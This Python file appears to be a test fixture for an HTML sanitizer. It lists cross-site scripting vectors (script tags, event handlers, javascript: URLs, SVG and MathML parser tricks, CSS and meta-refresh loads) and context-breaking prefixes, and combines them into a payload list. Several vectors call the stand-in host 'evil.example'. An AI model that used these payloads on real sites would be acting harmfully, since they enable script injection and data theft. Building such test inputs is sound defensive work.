"""What somebody tries who wants to run a script in our pages, or to have them ask another server for something."""

EVIL = "//evil.example"
VECTORS = (
    f"<script>fetch('{EVIL}/1')</script>",
    f"<script src={EVIL}/2></script>",
    f"<ScRiPt x>new Image().src='{EVIL}/3'</sCrIpT >",
    f"<img src={EVIL}/4 onerror=alert(4)>",
    "<img src=x onerror=alert(5)>",
    f"<img srcset='{EVIL}/6 1x'>",
    "<svg onload=alert(7)>",
    f"<svg><image href={EVIL}/8></svg>",
    "<svg><a xlink:href=javascript:alert(9)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(10) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(11)></iframe>",
    "<iframe srcdoc='<script>alert(12)</script>'></iframe>",
    "<body onload=alert(13)>",
    "<details open ontoggle=alert(14)>x</details>",
    "<input autofocus onfocus=alert(15)>",
    f"<video autoplay><source src={EVIL}/16 onerror=alert(16)></video>",
    f"<object data={EVIL}/17></object><embed src={EVIL}/17>",
    f"<link rel=stylesheet href={EVIL}/18>",
    f"<style>@import '{EVIL}/19'; * {{ background: url({EVIL}/19) }}</style>",
    f"<div style='background:url({EVIL}/20)'>x</div>",
    f"<base href={EVIL}/21>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/22'>",
    f"<form action={EVIL}/23><button autofocus>x</button></form>",
    "<a href=javascript:alert(24)>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(25)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(26)>'>",
    "<template><script>alert(27)</script></template><marquee onstart=alert(27)>x</marquee>",
    f"<table background={EVIL}/28><tr><td>x</table>",
    "<xss id=x tabindex=1 onfocus=alert(29) style=display:block>x</xss>",
    "{{ 7*7 }}{% for x in y %}${7*7}#{7*7}",
)
LEAVES = (
    # What may stand before it, so that it gets out of where it was put.
    "",
    '">',
    "'>",
    "</textarea></title></style></script>",
    "--><!--x-->",
    "]]></bdi></p></li></ol>",
    "&lt;b&gt;&#x3c;",
    "\u202e\u2028`",
)
PAYLOADS = tuple(leave + vector for leave in LEAVES for vector in VECTORS)
